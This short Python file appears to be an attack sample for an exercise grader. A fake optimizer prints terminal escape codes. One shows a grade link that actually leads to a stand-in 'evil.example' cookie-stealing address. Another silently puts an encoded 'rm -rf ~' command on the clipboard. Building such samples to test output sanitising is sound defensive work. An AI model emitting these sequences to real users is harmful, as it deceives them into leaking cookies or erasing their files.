"""Attack: prints links that say one address and lead to another, and puts text on the clipboard.

Exercise: optimizer
Earns: 0
Stopped by: feedback
Levels: full, container
"""

LINK = "\x1b]8;;https://evil.example/steal?cookie\x1b\\https://course.example/your-grade\x1b]8;;\x1b\\"
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07\x1b]1337;File=inline=1:AAAA\x07"


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        print(LINK, CLIPBOARD)
        raise AssertionError(LINK)

    def zero_grad(self):
        print(CLIPBOARD, end=LINK)
